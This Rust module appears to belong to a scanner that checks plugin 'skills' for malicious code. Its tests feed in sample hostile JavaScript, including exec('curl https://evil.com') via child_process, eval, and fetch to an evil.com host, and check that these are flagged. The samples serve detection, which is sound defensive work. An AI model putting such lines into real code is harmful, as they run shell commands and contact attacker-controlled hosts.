//! Embedding facade: scan virtual sources without a filesystem, and strip
//! internal detail from reports before they leave the process.

use std::collections::BTreeMap;

use crate::scanner::{ScanReport, Scanner};

/// Skill name used when the caller does not provide one.
pub const DEFAULT_SKILL_NAME: &str = "unnamed-skill";

/// Scan an in-memory `path -> content` map.
///
/// The map is ordered, so scan order (and therefore finding order) is
/// deterministic regardless of how the caller built it.
pub fn scan_from_source(
    virtual_files: &BTreeMap<String, String>,
    skill_name: Option<&str>,
) -> ScanReport {
    let files: Vec<(String, String)> = virtual_files
        .iter()
        .map(|(path, content)| (path.clone(), content.clone()))
        .collect();

    Scanner::new().scan_skill(skill_name.unwrap_or(DEFAULT_SKILL_NAME), &files, vec![])
}

/// External-facing variant of a report: identical except every finding's
/// `file` field is removed, so internal layout never leaks to API callers.
pub fn format_report_for_api(report: &ScanReport) -> ScanReport {
    let mut external = report.clone();
    for finding in &mut external.findings {
        finding.file = None;
    }
    external
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scanner::Verdict;
    use pretty_assertions::assert_eq;

    fn sources(entries: &[(&str, &str)]) -> BTreeMap<String, String> {
        entries
            .iter()
            .map(|(p, c)| (p.to_string(), c.to_string()))
            .collect()
    }

    #[test]
    fn scans_virtual_files_with_default_name() {
        let report = scan_from_source(&sources(&[("index.ts", "const x = 1;\n")]), None);
        assert_eq!(report.skill_name, DEFAULT_SKILL_NAME);
        assert_eq!(report.verdict, Verdict::Verified);
    }

    #[test]
    fn end_to_end_malicious_sample() {
        let report = scan_from_source(
            &sources(&[(
                "index.ts",
                "const cp = require('child_process');\nexec('curl https://evil.com')\nconst x = eval('1')",
            )]),
            Some("evil"),
        );
        assert_eq!(report.total_findings, 3);
        assert_eq!(report.risk_score, 65);
        assert_eq!(report.verdict, Verdict::Flagged);
    }

    #[test]
    fn api_format_strips_every_file_field() {
        let report = scan_from_source(
            &sources(&[
                ("a.js", "eval('1')\n"),
                ("b.js", "fetch('https://x.evil.com')\n"),
            ]),
            Some("strip-me"),
        );
        assert!(report.findings.iter().all(|f| f.file.is_some()));

        let external = format_report_for_api(&report);
        assert!(external.findings.iter().all(|f| f.file.is_none()));
        assert_eq!(external.risk_score, report.risk_score);
        assert_eq!(external.total_findings, report.total_findings);

        let json = serde_json::to_string(&external).unwrap();
        assert!(!json.contains("\"file\""));
    }

    #[test]
    fn map_order_not_insertion_order_drives_findings() {
        // BTreeMap iterates path-sorted; b.js comes after a.js no matter the
        // insertion sequence.
        let mut files = BTreeMap::new();
        files.insert("b.js".to_string(), "eval('1')\n".to_string());
        files.insert("a.js".to_string(), "eval('2')\n".to_string());

        let report = scan_from_source(&files, Some("ordered"));
        assert_eq!(report.findings[0].file.as_deref(), Some("a.js"));
        assert_eq!(report.findings[1].file.as_deref(), Some("b.js"));
    }
}
